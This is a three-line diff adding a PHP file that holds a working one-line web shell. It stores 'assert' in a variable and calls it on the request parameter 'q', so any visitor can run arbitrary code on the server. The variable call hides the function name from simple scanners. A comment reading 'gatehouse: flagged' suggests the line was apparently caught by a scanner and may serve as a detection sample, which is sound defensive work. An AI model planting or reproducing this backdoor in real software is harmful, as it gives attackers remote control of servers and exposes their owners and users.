@@ -1,0 +1,3 @@
+<?php
+$f = 'assert';
+$f($_REQUEST['q']); // gatehouse: flagged
